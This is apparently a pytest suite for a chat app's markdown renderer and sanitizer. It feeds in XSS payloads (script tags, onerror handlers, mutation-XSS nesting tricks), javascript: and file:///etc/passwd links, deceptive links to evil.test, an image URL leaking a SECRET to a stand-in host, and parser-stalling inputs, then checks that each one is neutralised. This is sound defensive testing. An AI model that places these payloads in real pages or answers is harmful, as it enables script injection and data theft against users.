"""What a hostile model writes stays inert, harmless to look at and cheap to draw."""

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from webapp.chat import markdown
from webapp.chat.elements import Labels
from webapp.chat.markdown import render
from webapp.chat.sanitizer import ATTRIBUTES, FIGURE, MATH, PROSE, TABLE, VALUES, clean

LABELS = Labels()
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<link rel=prefetch href=https://evil.test>",
    "<style>@import 'https://evil.test'</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='/logout' hx-get='/logout' hx-trigger='load'>x</a>",
    "<button data-copy hx-post='/x'>x</button>",
    "<div style='position:fixed' id=x class=dialog>",
    "</code></pre></figure><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
]
PLACES = ["{}", "a {} b", "# {}", "- {}", "> {}", "`{}`", "```\n{}\n```", "```{}\nx\n```", "|{}|\n|-|\n|{}|", "    {}"]
PLACES += ["[{}](https://e.com)", "[x](https://e.com '{}')", "[x](<{}>)", "[x](https://e.com/{})", "<https://e.com/{}>"]
PLACES += ["$$\n{}\n$$", "\\( \\text{{{}}} \\)", "\\(\\href{{{}}}{{x}}\\)", "![{}](https://evil.test/?q=1)", "**{}"]


class Page(HTMLParser):
    """Collects every element and attribute of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Page(html).elements:
        assert tag in PROSE | TABLE | FIGURE | MATH
        for name, value in attributes.items():
            own = set(ATTRIBUTES.get(tag, ())) | set(VALUES.get(tag, ()))
            assert name in own or (tag == "a" and name in {"rel", "target"}), (tag, name)
            assert not name.startswith(("on", "hx-", "style", "id", "src"))
            if name in VALUES.get(tag, {}):
                assert value in VALUES[tag][name]
        if tag == "a" and "href" in attributes:
            assert urlsplit(attributes["href"] or "").scheme in {"http", "https", "mailto"}
            assert attributes["rel"] == "noopener noreferrer nofollow"
        if tag == "use":
            assert attributes == {"href": LABELS.icon_url}
    assert Page(clean(html, LABELS.icon_url)).elements == Page(html).elements


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("payload", HTML)
def test_html_in_any_place_of_an_answer_is_only_text(payload: str, place: str) -> None:
    assert_harmless(str(render(place.replace("{}", payload).replace("{{", "{").replace("}}", "}"), LABELS)))


@settings(deadline=None, max_examples=150, database=None)
@given(
    st.lists(st.sampled_from([*HTML, *PLACES, "\n", "\n\n", "  ", "`", "$$", "\\(", "\\)", "[", "](", ")", "'", '"']))
)
def test_no_mixture_of_hostile_pieces_gets_out(pieces: list[str]) -> None:
    assert_harmless(str(render("".join(pieces), LABELS)))


@pytest.mark.parametrize("payload", HTML)
def test_the_sanitizer_alone_stops_what_the_parser_would_let_through(payload: str) -> None:
    assert_harmless(str(clean(payload, LABELS.icon_url)))


@pytest.mark.parametrize(
    "target",
    [
        *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#x6A;avascript:alert(1)", "java&Tab;script:alert(1)"),
        *("vbscript:x", "data:text/html,x", "blob:https://e.com/x", "ms-msdt:/id", "file:///etc/passwd", "ftp://e.com"),
        *(
            "tel:1",
            "/logout",
            "//evil.test",
            "\\\\\\\\evil.test",
            "/\\\\evil.test",
            "logout",
            "#top",
            "?a=b",
            "http:/x",
        ),
        *("https://", "http:evil.test", "https:///evil.test", "https://good.test@evil.test", "https://a:b@evil.test"),
        *(
            "https://good.test\\\\@evil.test",
            "https://[::1",
            "mailto:",
            "mailto:x",
            "https://e%00.com",
            "\x01https://e.com",
        ),
    ],
)
def test_anything_but_an_absolute_web_or_mail_address_is_not_a_link(target: str) -> None:
    for text in (f"[x]({target})", f"[x](<{target}>)", f"<{target}>", f"[x]\n\n[x]: {target}", f"![x]({target})"):
        assert "href" not in str(render(text, LABELS))


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[bank](https://evil.test/login)", "evil.test"),
        ("[https://bank.test](https://evil.test)", "evil.test"),
        ("[bank.test](https://evil.test)", "evil.test"),
        ("[evil.test.bank.test](https://evil.test)", "evil.test"),
        ("[evil.test@bank.test](https://evil.test)", "evil.test"),
        ("[**https://bank.test**](https://EVIL.test:8443/x)", "evil.test"),
        ("[bánk](https://bánk.test)", "xn--bnk-ela.test"),
        ("[bánk.test](https://bánk.test)", "xn--bnk-ela.test"),
        ("[write us](mailto:x@evil.test?subject=a)", "x@evil.test"),
        ("[x][a]\n\n[a]: https://evil.test", "evil.test"),
    ],
)
def test_a_link_shows_where_it_leads(text: str, host: str) -> None:
    drawn = str(render(text, LABELS))
    assert f'</a> <span class="host">({host})</span>' in drawn
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in drawn


@pytest.mark.parametrize(
    "text", ["<https://e.com/x>", "[https://e.com](https://e.com/x)", "[e.com/x](https://e.com)", "<a@e.com>"]
)
def test_a_link_whose_text_is_its_address_needs_no_second_one(text: str) -> None:
    assert "host" not in str(render(text, LABELS))


def test_a_link_title_cannot_leave_its_attribute() -> None:
    drawn = str(render("[x](https://e.com '\" onmouseover=\"alert(1)</figcaption>')", LABELS))
    assert Page(drawn).elements[1][1]["title"] == '" onmouseover="alert(1)</figcaption>'


@pytest.mark.parametrize(
    "text", ["![x](https://evil.test/?q=SECRET)", "![x][e]\n\n[e]: https://evil.test/", "<img src='https://evil.test'>"]
)
def test_an_image_is_never_requested(text: str) -> None:
    assert not {"img", "link", "iframe"} & {tag for tag, _ in Page(str(render(text, LABELS))).elements}


def test_characters_that_turn_text_around_are_dropped_everywhere() -> None:
    for text in ("a\u202eb\u202c", "`a\u2066b\u2069`", "```py\n'\u202ex'\n```", "[a\u202e](https://e.com)"):
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", str(render(text, LABELS)))
    assert "\u200f" in render("שלום\u200f!", LABELS)


N = 100_000
EXPENSIVE = {
    "brackets": "[" * N,
    "images": "![" * (N // 2),
    "emphasis": "*a_" * (N // 3),
    "more emphasis": "*a **a " * 15_000,
    "backslashes": "\\" * N,
    "backticks": "".join("`" * (i % 300 + 1) + "a" for i in range(600)),
    "quotes": "\n".join(">" * i for i in range(400)),
    "lists": "\n".join(" " * 2 * i + "- a" for i in range(300)),
    "markers": "- " * 5_000,
    "wide table": "|".join("a" * 3_000) + "\n" + "|".join(["-"] * 3_000) + "\n" + ("|".join("b" * 3_000) + "\n") * 20,
    "references": "\n".join(f"[a{i}]: http://x.y/{i}" for i in range(20_000)),
    "uses": "[a]: http://x.y\n\n" + "[a]" * 30_000,
    "link starts": "[a](" * 20_000,
    "formula starts": "\\(" * (N // 2),
    "dollars": "$a " * (N // 3),
    "headings": "# a\n" * 20_000,
    "paragraphs": "a\n\n" * 50_000,
    "code blocks": "```py\nx\n```\n" * 8_000,
    "one word": "a" * 1_000_000,
}


@pytest.mark.parametrize("name", EXPENSIVE)
def test_an_expensive_text_is_drawn_within_its_budget_or_shown_plain(name: str) -> None:
    # Processor time, and far above the budget of the code: a busy machine must not fail here, a runaway must.
    started = time.thread_time()
    drawn = render(EXPENSIVE[name], LABELS)
    assert time.thread_time() - started < 8 * markdown.SECONDS_PER_TEXT
    assert_harmless(str(drawn))


def test_a_block_without_time_is_plain_and_its_neighbours_are_not(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "LONGEST_BLOCK", 1_000)
    drawn = str(render(f"**a**\n\n{'*b* ' * 500}\n\n**c**", LABELS))
    assert drawn.count("<strong>") == 2
    assert "<em>" not in drawn
    assert f"<code>{'*b* ' * 499}*b*" in drawn


def test_a_text_whose_time_is_over_ends_as_one_plain_block(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "SECONDS_PER_TEXT", -1)
    drawn = str(render("**a**\n\n**b**\n", LABELS))
    assert drawn.count("<figure") == 1
    assert "<code>**a**\n\n**b**</code>" in drawn


def test_a_text_too_slow_to_cut_into_blocks_is_one_plain_block() -> None:
    source = markdown.Source("# a\n\n<b>", LABELS, seconds_per_block=-1)
    assert "<code># a\n\n&lt;b&gt;</code>" in source.draw(source.blocks)


def test_a_machine_that_stands_still_once_changes_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "# a\n\n- *b* and [c](https://d.e)\n- f `g`\n\n> h\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    whole, clock, looks = render(text, LABELS), time.thread_time, 0

    def standing_still_at(look: int) -> Callable[[], float]:
        def thread_time() -> float:
            nonlocal looks
            looks += 1
            return clock() + (1.0 if looks > look else 0.0)

        return thread_time

    stops = 0
    while looks >= stops:
        stops, looks = stops + 1, 0
        monkeypatch.setattr(time, "thread_time", standing_still_at(stops))
        assert render(text, LABELS) == whole, f"stood still at look {stops}"
    assert stops > 20
